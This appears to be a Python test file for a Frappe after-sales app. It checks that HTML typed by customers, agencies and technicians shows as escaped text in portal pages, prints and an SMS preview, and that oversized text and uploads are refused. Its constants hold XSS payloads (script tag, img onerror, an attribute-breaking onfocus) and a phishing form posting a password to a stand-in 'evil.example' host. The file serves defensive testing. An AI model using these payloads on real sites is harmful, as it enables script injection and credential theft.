"""Hostile input from the people outside head office: customers and agencies (and their
technicians) type HTML and script into every free-text field they have, send megabytes of text and
files above the site's limit. Everything goes in through the real endpoints over HTTP (the site's
WSGI application, with each user's own credentials) and is read back the way people read it: the
portal pages as the other party sees them, the print formats head office prints, the SMS preview.

Text typed as HTML must read as the text that was typed - `<script>` shown as `&lt;script&gt;` in
the page, never a tag - and nowhere may an event handler attribute (`onerror=`) survive inside a
tag. Oversized text or files are refused with a message that says what to do (or HTTP 413 above
what the site reads at all), and nothing of the refused request is kept.
"""

import io
import json
import os
import re

import frappe

from zhira_after_sales.agency.doctype.service_invoice.test_service_invoice import (
	WARRANTY_REPAIR,
)
from zhira_after_sales.agency.doctype.service_invoice.test_service_invoice import (
	setup_world as setup_invoice_world,
)
from zhira_after_sales.agency.test_agency_portal import PNG
from zhira_after_sales.agency.test_technician_api import (
	ACCEPTED,
	AGENCY_USER,
	PDF,
	REFERRED,
	TECH_USER,
	error_text,
	make_job,
	new_id,
	setup_technicians,
)
from zhira_after_sales.customer_care import survey
from zhira_after_sales.customer_care.doctype.survey_response.test_survey_response import (
	QUESTIONS,
	TEMPLATE,
	completed_reception,
	make_template,
	use_settings,
)
from zhira_after_sales.messaging.tests.case import SMSTestCase
from zhira_after_sales.service_desk import tickets
from zhira_after_sales.service_desk.doctype.service_ticket.test_service_ticket import (
	AGENCY_A_USER,
	CUSTOMER_A_USER,
	MANAGER,
	remove_outgoing_mail,
)
from zhira_after_sales.service_desk.doctype.service_ticket.test_service_ticket import (
	setup_world as setup_ticket_world,
)
from zhira_after_sales.tests.factories import TEST_IGNORE
from zhira_after_sales.tests.rest import _Call, api_credentials, call, call_guest

test_ignore = TEST_IGNORE

SCRIPT = "<script>alert(1405)</script>"
SCRIPT_SHOWN = "&lt;script&gt;alert("  # the print formats wrap the number for wkhtmltopdf
IMAGE = "<img src=x onerror=alert(1405)>"
# tags Frappe's sanitiser lets through, and text without tags it does not touch at all
FORM = '<form action="https://evil.example/steal"><input name="pwd"></form>'
QUOTE = 'Tehran" autofocus onfocus="alert(1405)'
HOSTILE = f"{SCRIPT} {IMAGE} {FORM} خراب شد"
EVIL_IN_TAG = re.compile(r"<form\b[^<>]*evil\.example", re.IGNORECASE)
HANDLER_IN_TAG = re.compile(r"<[a-z][^<>]*\son[a-z]+\s*=\s*[\"']?alert\(1405\)", re.IGNORECASE)
MEGABYTE_TEXT = "آ" * (1024 * 1024)
TICKET_API = "/api/method/zhira_after_sales.api.ticket."
TECH_API = "/api/method/zhira_after_sales.api.v1.tech."
REQUEST_API = "/api/method/zhira_after_sales.api.customer.submit_request"
AGENCY_INVOICE_API = "/api/method/zhira_after_sales.api.agency.save_service_invoice"
SMS_PREVIEW_API = "/api/method/zhira_after_sales.api.sms.preview"
SMS_TEMPLATE = "ZT Hostile Preview"


def page(path: str, user: str) -> tuple[int, str]:
	"""The page as `user`'s browser gets it."""
	request = _Call("GET", path, {"Authorization": api_credentials(user), "Accept": "text/html"})
	request.start()
	request.join()
	return request.response.status_code, request.response.get_data(as_text=True)


class HostileInputCase(SMSTestCase):
	longMessage = False  # a page is long: the failure says where and shows the text around it

	def tearDown(self):
		frappe.set_user("Administrator")
		super().tearDown()

	def assert_shown_as_text(self, html: str, where: str, shown: bool = True):
		"""The hostile text reads as text: the script tag escaped once (not a tag, not `&amp;lt;`),
		no event handler of it inside any tag, none of its other tags (`<form action=...>`).
		`shown=False`: a page that need not show the text. Frappe's Standard print format prints a
		field as the HTML stored: utils.typed_text.disarm_tags stores no tag of typed text."""
		seen = [html[max(0, m.start() - 40) : m.end() + 40] for m in re.finditer(r"alert\(", html)]
		self.assertNotIn(SCRIPT, html, f"{where}: a script tag: {seen}")
		self.assertNotRegex(html, HANDLER_IN_TAG, f"{where}: an event handler: {seen}")
		evil = [html[max(0, m.start() - 60) : m.end() + 60] for m in EVIL_IN_TAG.finditer(html)]
		self.assertFalse(evil, f"{where}: a tag of the text acts as HTML: {evil}")
		self.assertNotIn("&amp;lt;script", html, f"{where}: escaped twice: {seen}")
		if shown:
			self.assertIn(SCRIPT_SHOWN, html, f"{where}: not shown as typed: {seen}")

	def assert_print_shows_text(self, doctype: str, name: str, print_format: str | None = None):
		frappe.set_user("Administrator")
		html = frappe.get_print(doctype, name, print_format=print_format)
		where = f"print of {doctype} {name} ({print_format or 'Standard'})"
		self.assert_shown_as_text(html, where)


class TestHostileInput(HostileInputCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.tw = setup_ticket_world()
		cls.iw = setup_invoice_world()
		cls.t = setup_technicians(cls.iw)
		frappe.db.commit()  # nosemgrep: the HTTP requests run in their own transaction

	@classmethod
	def tearDownClass(cls):
		remove_outgoing_mail(cls.tw.email_account)
		super().tearDownClass()

	def setUp(self):
		super().setUp()
		self.made = []  # (doctype, name) the requests committed, removed again in tearDown

	def tearDown(self):
		frappe.set_user("Administrator")
		frappe.db.rollback()
		try:
			series = keep_series(name for _doctype, name in self.made)
			for doctype, name in reversed(self.made):
				if frappe.db.get_value(doctype, name, "docstatus") == 1:
					frappe.db.set_value(doctype, name, "docstatus", 2)  # submitted records go as cancelled
				if frappe.db.exists(doctype, name):
					frappe.delete_doc(doctype, name, force=True, ignore_permissions=True)
			series()
			frappe.db.commit()  # nosemgrep: undo what the requests committed
		finally:
			super().tearDown()  # the test's SMS gateway and messages go whatever happened above

	def commit(self):
		frappe.db.commit()  # nosemgrep: what the test made, for the HTTP requests

	def ok(self, response) -> dict:
		self.assertEqual(response.status_code, 200, response.get_data(as_text=True)[:800])
		frappe.db.rollback()  # a fresh snapshot: see what the request committed
		return response.json["message"]

	def assert_pages(self, user: str, *paths: str, lists: tuple[str, ...] = ()):
		"""Each page of `paths` shows the text as text; the pages of `lists` (lists that may leave
		it out) show nothing of it as HTML."""
		for path in (*paths, *lists):
			status, html = page(path, user)
			self.assertEqual(status, 200, f"{path}: {html[:300]}")
			self.assert_shown_as_text(html, path, shown=path in paths)

	# --- tickets: the customer's and the agency's conversation --------------------------------

	def open_ticket(self, user: str) -> str:
		self.commit()
		data = {"category": "Question", "subject": SCRIPT, "description": HOSTILE}
		name = self.ok(call("POST", TICKET_API + "open_ticket", user, data=data))["name"]
		self.made.append(("Service Ticket", name))
		self.ok(call("POST", TICKET_API + "reply", user, data={"name": name, "message": HOSTILE}))
		return name

	def test_a_customers_ticket_reads_as_text_in_the_portal_and_the_print(self):
		name = self.open_ticket(CUSTOMER_A_USER)
		# what the desk form reads back from the server holds no tag that runs
		stored = frappe.get_doc("Service Ticket", name)
		for text in (stored.subject, stored.description, *(row.message for row in stored.replies)):
			self.assertNotIn("<script", text)
			self.assertNotRegex(text, HANDLER_IN_TAG)
		self.assert_pages(CUSTOMER_A_USER, f"/service/ticket?name={name}", lists=("/service/tickets",))
		self.assert_print_shows_text("Service Ticket", name)

	def test_an_agencys_ticket_reads_as_text_in_the_portal_and_the_print(self):
		name = self.open_ticket(AGENCY_A_USER)
		self.assert_pages(AGENCY_A_USER, f"/agency/ticket?name={name}", lists=("/agency/tickets",))
		self.assert_print_shows_text("Service Ticket", name)

	def test_a_complaint_made_from_a_customers_ticket_prints_its_text_as_text(self):
		name = self.open_ticket(CUSTOMER_A_USER)
		frappe.set_user(MANAGER)
		complaint = tickets.convert(name, "Complaint", MANAGER)
		frappe.set_user("Administrator")
		self.made.append(("Complaint", complaint))
		self.assertIn("alert(1405)", frappe.db.get_value("Complaint", complaint, "description"))
		self.assert_print_shows_text("Complaint", complaint)

	# --- the customer's service request -------------------------------------------------------

	def use_request_settings(self):
		settings = frappe.get_single("After Sales Settings")
		saved = ([row.item_group for row in settings.request_item_groups], settings.web_request_target)
		settings.set("request_item_groups", [{"item_group": self.tw.group}])
		settings.web_request_target = "Service Reception"
		settings.save()
		self.commit()

		def restore():
			settings = frappe.get_single("After Sales Settings")
			settings.set("request_item_groups", [{"item_group": g} for g in saved[0]])
			settings.web_request_target = saved[1] or "Service Reception"
			settings.save()
			self.commit()

		self.addCleanup(restore)

	def request_values(self, **values) -> dict:
		return {
			"item_group": self.tw.group,
			"item": self.tw.heater,
			"service_type": frappe.get_all("Service Type", {"is_active": 1}, pluck="name", limit=1)[0],
			"address_line": HOSTILE,
			"city": QUOTE,
			"description": HOSTILE,
			**values,
		}

	def test_a_customers_service_request_reads_as_text_for_the_customer_and_the_agency(self):
		self.use_request_settings()
		answer = self.ok(call("POST", REQUEST_API, CUSTOMER_A_USER, data=self.request_values()))
		name = answer["name"]
		self.made.append(("Service Reception", name))
		self.assert_pages(
			CUSTOMER_A_USER, f"/service/request?name={name}", lists=("/service", "/service/new-request")
		)
		self.assert_print_shows_text("Service Reception", name)
		# referred to an agency: its staff read the same text
		doc = frappe.get_doc("Service Reception", name)
		doc.service_agency = self.tw.agency_a
		doc.save(ignore_permissions=True)
		self.commit()
		self.assert_pages(AGENCY_A_USER, f"/agency/referral?name={name}", lists=("/agency",))

	def test_the_sms_preview_carries_the_text_as_json_for_the_dialogs_text_box(self):
		self.use_request_settings()
		name = self.ok(call("POST", REQUEST_API, CUSTOMER_A_USER, data=self.request_values()))["name"]
		self.made.append(("Service Reception", name))
		if not frappe.db.exists("SMS Template", SMS_TEMPLATE):
			frappe.get_doc(
				{
					"doctype": "SMS Template",
					"template_name": SMS_TEMPLATE,
					"reference_doctype": "Service Reception",
					"body": "Address: {{ doc.address_line }}",
				}
			).insert(ignore_permissions=True)
			self.made.insert(0, ("SMS Template", SMS_TEMPLATE))
		self.commit()
		response = call(
			"GET",
			SMS_PREVIEW_API,
			MANAGER,
			query_string={"template": SMS_TEMPLATE, "doctype": "Service Reception", "name": name},
		)
		self.assertEqual(response.status_code, 200, response.get_data(as_text=True)[:500])
		self.assertEqual(response.mimetype, "application/json")
		body = response.json["message"]["body"]
		self.assertNotIn(SCRIPT, body)
		self.assertNotRegex(body, HANDLER_IN_TAG)

	# --- the technician's and the agency's work reports and notes -----------------------------

	def file_invoice(self, job: str, **values) -> str:
		data = {
			"job": job,
			"customer_device": self.iw.covered,
			"client_id": new_id(),
			"services": json.dumps([{"service_type": WARRANTY_REPAIR, "description": HOSTILE}]),
			"notes": HOSTILE,
			"customer_acknowledgement": "1",
			"acknowledged_by_name": SCRIPT,
			**values,
		}
		answer = self.ok(
			call("POST", TECH_API + "invoice", TECH_USER, data=data, content_type="multipart/form-data")
		)
		self.made.append(("Service Invoice", answer["invoice"]))
		return answer["invoice"]

	def new_job(self) -> str:
		job = make_job(self.iw, self.t)
		self.made.insert(0, ("Service Reception", job))
		self.commit()
		return job

	def test_a_technicians_work_report_reads_as_text_for_the_agency_and_in_the_prints(self):
		invoice = self.file_invoice(self.new_job())
		self.assert_pages(AGENCY_USER, f"/agency/invoice?name={invoice}")
		for print_format in (
			"Service Invoice Work Report English",
			"Service Invoice Work Report Persian",
			"Standard",
		):
			self.assert_print_shows_text("Service Invoice", invoice, print_format)

	def test_a_technicians_status_note_reads_as_text_for_the_agency(self):
		job = self.new_job()
		body = {
			"job": job,
			"status": ACCEPTED,
			"expected_status": REFERRED,
			"client_id": new_id(),
			"note": HOSTILE,
		}
		answer = self.ok(call("POST", TECH_API + "status", TECH_USER, json=body))
		self.assertEqual(answer["result"], "applied")
		self.assert_pages(AGENCY_USER, f"/agency/referral?name={job}")
		self.assert_print_shows_text("Service Reception", job)

	def test_an_agencys_own_work_report_reads_as_text_in_the_portal_and_the_prints(self):
		job = self.new_job()
		data = {
			"reception": job,
			"customer_device": self.iw.covered,
			"services": json.dumps([{"service_type": WARRANTY_REPAIR, "description": HOSTILE}]),
			"notes": HOSTILE,
			"customer_acknowledgement": "1",
			"acknowledged_by_name": SCRIPT,
		}
		answer = self.ok(
			call("POST", AGENCY_INVOICE_API, AGENCY_USER, data=data, content_type="multipart/form-data")
		)
		self.made.append(("Service Invoice", answer["name"]))
		self.assert_pages(AGENCY_USER, f"/agency/invoice?name={answer['name']}", lists=("/agency/invoices",))
		self.assert_print_shows_text("Service Invoice", answer["name"], "Service Invoice Work Report Persian")

	# --- head office's records of what customers said -----------------------------------------

	def test_a_happy_call_note_prints_as_text(self):
		make_template(TEMPLATE, QUESTIONS)
		use_settings()
		reception = completed_reception(self.iw)
		name = survey.existing_for(reception) or survey.create_for_reception(reception, dispatch=False)
		frappe.set_user(MANAGER)
		survey.record_attempt(name, "No Answer", note=HOSTILE)
		self.assert_print_shows_text("Survey Response", name)

	# --- oversized text --------------------------------------------------------------------------

	def refused(self, response, *phrases: str) -> str:
		"""A 417 whose message says what to do (each of `phrases`); returns the message."""
		self.assertEqual(response.status_code, 417, response.get_data(as_text=True)[:800])
		message = error_text(response)
		for phrase in phrases:
			self.assertIn(phrase, message)
		frappe.db.rollback()
		return message

	def test_a_megabyte_of_text_in_a_customers_request_or_ticket_is_refused_saying_the_limit(self):
		self.use_request_settings()
		receptions = frappe.db.count("Service Reception", {"customer": self.tw.customer_a})
		self.refused(
			call("POST", REQUEST_API, CUSTOMER_A_USER, data=self.request_values(description=MEGABYTE_TEXT)),
			"Description: write at most 1000 characters.",
		)
		self.refused(
			call("POST", REQUEST_API, CUSTOMER_A_USER, data=self.request_values(city=MEGABYTE_TEXT)),
			"at most 80 characters",
		)
		self.assertEqual(frappe.db.count("Service Reception", {"customer": self.tw.customer_a}), receptions)

		tickets_before = frappe.db.count("Service Ticket", {"party": self.tw.customer_a})
		for field, says in (
			("subject", "The subject is too long"),
			("description", "The description is too long"),
		):
			data = {
				"category": "Question",
				"subject": "آب گرم نمی‌شود",
				"description": "از دیروز",
				field: MEGABYTE_TEXT,
			}
			self.refused(call("POST", TICKET_API + "open_ticket", CUSTOMER_A_USER, data=data), says)
		self.assertEqual(frappe.db.count("Service Ticket", {"party": self.tw.customer_a}), tickets_before)
		name = self.open_ticket(CUSTOMER_A_USER)
		replies = len(frappe.get_doc("Service Ticket", name).replies)
		self.refused(
			call(
				"POST", TICKET_API + "reply", CUSTOMER_A_USER, data={"name": name, "message": MEGABYTE_TEXT}
			),
			"The message is too long",
		)
		self.assertEqual(len(frappe.get_doc("Service Ticket", name).replies), replies)

	def test_a_megabyte_of_notes_from_a_technician_or_an_agency_is_refused_saying_the_limit(self):
		job = self.new_job()
		invoices = frappe.db.count("Service Invoice", {"service_reception": job})
		data = {
			"job": job,
			"customer_device": self.iw.covered,
			"client_id": new_id(),
			"services": json.dumps([{"service_type": WARRANTY_REPAIR}]),
			"notes": MEGABYTE_TEXT,
		}
		self.refused(call("POST", TECH_API + "invoice", TECH_USER, data=data), "Notes", "characters")
		data = {
			"reception": job,
			"customer_device": self.iw.covered,
			"services": json.dumps([{"service_type": WARRANTY_REPAIR}]),
			"notes": MEGABYTE_TEXT,
		}
		self.refused(call("POST", AGENCY_INVOICE_API, AGENCY_USER, data=data), "Notes", "characters")
		self.assertEqual(frappe.db.count("Service Invoice", {"service_reception": job}), invoices)

		log = len(frappe.get_doc("Service Reception", job).status_log)
		body = {"job": job, "status": ACCEPTED, "expected_status": REFERRED, "client_id": new_id()}
		self.refused(
			call("POST", TECH_API + "status", TECH_USER, json={**body, "note": MEGABYTE_TEXT}), "characters"
		)
		self.assertEqual(frappe.db.get_value("Service Reception", job, "status"), REFERRED)
		self.assertEqual(len(frappe.get_doc("Service Reception", job).status_log), log)

	def test_a_megabyte_long_name_at_sign_up_is_refused(self):
		response = call_guest(
			"POST",
			"/api/method/zhira_after_sales.api.customer_auth.verify_login_code",
			data={"mobile": "09355600901", "code": "123456", "full_name": MEGABYTE_TEXT},
			headers={"Accept-Language": "en"},
		)
		self.refused(response, "Type your full name")

	# --- files above the site's limit ----------------------------------------------------------

	def site_max_file_size(self, megabytes: int):
		"""System Settings' Max File Size for this test (Frappe's File refuses anything larger)."""
		saved = frappe.db.get_single_value("System Settings", "max_file_size")
		frappe.db.set_single_value("System Settings", "max_file_size", megabytes)
		frappe.clear_document_cache("System Settings", "System Settings")
		self.commit()

		def restore():
			frappe.db.set_single_value("System Settings", "max_file_size", saved)
			frappe.clear_document_cache("System Settings", "System Settings")
			self.commit()

		self.addCleanup(restore)

	def test_a_photo_above_the_sites_file_size_is_refused_and_nothing_is_kept(self):
		invoice = self.file_invoice(self.new_job())
		self.site_max_file_size(1)
		files = frappe.db.count(
			"File", {"attached_to_doctype": "Service Invoice", "attached_to_name": invoice}
		)

		def upload(content: bytes):
			data = {
				"invoice": invoice,
				"fieldname": "work_photo",
				"file": (io.BytesIO(content), "photo.png", "image/png"),
			}
			return call("POST", TECH_API + "upload", TECH_USER, data=data, content_type="multipart/form-data")

		on_disk = stored_files()
		self.refused(upload(PNG + b"\0" * (2 * 1024 * 1024)), "maximum allowed size of 1.0 MB")
		# above what the site reads at all: refused before the request is read (HTTP 413)
		self.assertEqual(upload(PNG + b"\0" * (request_limit() + 1024)).status_code, 413)
		frappe.db.rollback()
		self.assertIsNone(frappe.db.get_value("Service Invoice", invoice, "work_photo"))
		self.assertEqual(
			frappe.db.count("File", {"attached_to_doctype": "Service Invoice", "attached_to_name": invoice}),
			files,
		)
		self.assertEqual(stored_files(), on_disk)

	def test_a_ticket_attachment_above_the_sites_file_size_is_refused_and_nothing_is_kept(self):
		self.site_max_file_size(1)
		tickets_before = frappe.db.count("Service Ticket", {"party": self.tw.customer_a})
		files = frappe.db.count("File", {"attached_to_doctype": "Service Ticket"})

		def open_with(content: bytes):
			data = {
				"category": "Question",
				"subject": "فاکتور",
				"description": "فاکتور پیوست است",
				"attachment": (io.BytesIO(content), "invoice.pdf", "application/pdf"),
			}
			return call(
				"POST",
				TICKET_API + "open_ticket",
				CUSTOMER_A_USER,
				data=data,
				content_type="multipart/form-data",
			)

		on_disk = stored_files()
		self.refused(open_with(PDF + b"\0" * (2 * 1024 * 1024)), "maximum allowed size of 1.0 MB")
		self.assertEqual(open_with(PDF + b"\0" * (request_limit() + 1024)).status_code, 413)
		frappe.db.rollback()
		self.assertEqual(frappe.db.count("Service Ticket", {"party": self.tw.customer_a}), tickets_before)
		self.assertEqual(frappe.db.count("File", {"attached_to_doctype": "Service Ticket"}), files)
		self.assertEqual(stored_files(), on_disk)


def request_limit() -> int:
	"""The largest request body the site reads (frappe.app: site config max_file_size, else 25 MB)."""
	return frappe.utils.cint(frappe.conf.get("max_file_size")) or 25 * 1024 * 1024


def stored_files() -> set[str]:
	"""The site's private files on disk."""
	return set(os.listdir(frappe.get_site_path("private", "files")))


def keep_series(names):
	"""Frappe's delete_doc gives the last number of a naming series back; the names deleted here must
	not come again, or another test's new record would inherit this one's notifications and logs.
	Returns the function that puts the series' counters back as they are now."""
	series = frappe.qb.Table("tabSeries")
	prefixes = {re.sub(r"\d+$", "", name) for name in names}
	saved = {
		row[0]: row[1]
		for row in frappe.qb.from_(series)
		.select(series.name, series.current)
		.where(series.name.isin(prefixes or [""]))
		.run()
	}

	def restore():
		for prefix, current in saved.items():
			frappe.qb.update(series).set(series.current, current).where(series.name == prefix).run()

	return restore
